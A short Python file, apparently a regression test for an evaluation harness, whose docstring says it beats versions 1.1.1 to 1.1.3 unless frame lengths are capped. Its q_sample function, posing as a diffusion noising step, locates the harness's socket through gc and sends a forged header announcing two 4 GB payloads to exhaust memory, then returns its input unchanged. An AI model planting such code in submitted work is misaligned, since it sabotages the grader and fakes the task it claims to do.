"""Announces four gigabytes, twice.
What stops it: lengths are capped before anything is read.

Loses: 1.1.1, 1.1.2, 1.1.3
"""

import gc
import json
import struct


def channel():
    return next(each for each in gc.get_objects() if type(each).__name__ == "Channel" and each.sock.fileno() >= 0)


def frame(body, arrays=(), payload=b""):
    header = body if isinstance(body, bytes) else json.dumps({"body": body, "arrays": list(arrays)}).encode()
    return struct.pack(">II", len(header), len(payload)) + header + payload


def q_sample(x_0, alpha_bar_t, eps):
    channel().sock.sendall(b"\xff" * 8 + bytes(1000))
    return x_0
